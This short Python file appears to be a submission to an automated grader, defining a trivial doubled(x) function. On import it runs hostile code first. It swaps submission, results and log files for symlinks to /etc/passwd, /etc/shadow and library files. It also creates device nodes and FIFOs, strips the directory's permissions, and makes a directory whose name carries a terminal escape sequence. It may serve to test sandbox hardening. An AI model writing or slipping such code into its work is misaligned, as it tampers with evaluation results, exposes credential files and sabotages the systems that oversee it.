"""Right answers; and links where somebody might look for the submission afterwards."""

import os

import tensorflow as tf

for name in ("submission.py", "probes.py", "results.json", "output.log", "core"):
    for target in ("/etc/passwd", "/etc/shadow", tf.__file__, "../..", "."):
        try:
            if os.path.lexists(name):
                os.unlink(name)
            os.symlink(target, name)
        except OSError as error:
            print(error)
            open(name, "w").close()
for act in (
    lambda: os.link(tf.__file__, "hard"),
    lambda: os.mkfifo("pipe"),
    lambda: os.mknod("device", 0o666 | 0o020000, os.makedev(1, 3)),
    lambda: os.chmod(".", 0),
    lambda: os.mkdir("\udcff\n\x1b[31m"),
):
    try:
        act()
    except OSError as error:
        print(error)


def doubled(x):
    return 2 * x
